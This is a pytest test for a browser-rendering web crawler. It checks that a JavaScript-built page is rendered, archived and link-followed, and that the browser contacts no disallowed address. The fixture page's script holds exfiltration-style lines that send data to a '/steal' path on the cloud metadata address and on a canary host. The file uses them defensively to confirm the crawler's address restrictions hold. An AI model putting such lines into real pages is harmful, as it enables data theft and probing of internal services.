"""A page that holds nothing without a browser."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

from storage.archive import Archive

SHELL = b"""<!DOCTYPE html><html lang="en"><head><title>Hiring nurses in Ghent</title></head><body><div id="root"></div>
<script>
fetch("/data.json").then(answer => answer.json()).then(data => {
  document.getElementById("root").innerHTML = "<main><h1>" + data.title + "</h1><p>" + data.text + "</p>" +
    '<a href="/second">Second</a></main>';
});
new Image().src = "http://169.254.169.254/steal?" + document.title;
fetch("http://CANARY/steal").catch(() => {});
</script></body></html>"""


def serve(answers: dict[str, tuple[str, bytes]], seen: list[str]) -> ThreadingHTTPServer:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            kind, body = answers.get(self.path, ("text/html", b""))
            self.send_response(200 if self.path in answers else 404)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=server.serve_forever, daemon=True).start()
    return server


def test_the_document_is_rendered_and_kept_and_nothing_forbidden_is_loaded(tmp_path: Path) -> None:
    pytest.importorskip("scrapy_playwright", reason="needs the extra `browser`")
    if not any(shutil.which(name) for name in ("chromium", "chromium-browser", "google-chrome")):
        pytest.skip("needs a Chromium on the machine")
    stolen: list[str] = []
    seen: list[str] = []
    canary = serve({}, stolen)
    shell = SHELL.replace(b"CANARY", f"127.0.0.1:{canary.server_port}".encode())
    data = json.dumps({"title": "Hiring nurses in Ghent", "text": "Nurses are wanted everywhere."}).encode()
    answers = {"/": ("text/html", shell), "/second": ("text/html", shell), "/data.json": ("application/json", data)}
    site = serve(answers, seen)
    order: dict[str, Any] = {
        "config": {
            "data": str(tmp_path / "data"),
            "allow_addresses": [f"127.0.0.1:{site.server_port}"],
            "delay": 0,
            "log_level": "WARNING",
        },
        "sites": [{"name": "app", "javascript": True, "start_urls": [f"http://127.0.0.1:{site.server_port}/"]}],
    }
    driver = Path(__file__).with_name("driver.py")
    done = subprocess.run(
        [sys.executable, str(driver)], input=json.dumps(order), capture_output=True, text=True, timeout=90
    )
    site.shutdown()
    canary.shutdown()
    outcome = json.loads(done.stdout.splitlines()[-1])
    assert outcome["exit_code"] == 0, (outcome, done.stderr[-2000:])
    pages = [entry.page for entry in Archive(tmp_path / "data" / "archive").entries() if entry.page]
    assert len(pages) == 2, "the link in the rendered document was followed"
    assert all(b"<h1>Hiring nurses in Ghent</h1>" in page.content for page in pages)
    assert all(page.headers["x-guidepost-rendered"] == "chromium" for page in pages)
    assert seen[0] == "/robots.txt"
    assert stolen == [], "the browser was led to an address that is not allowed"
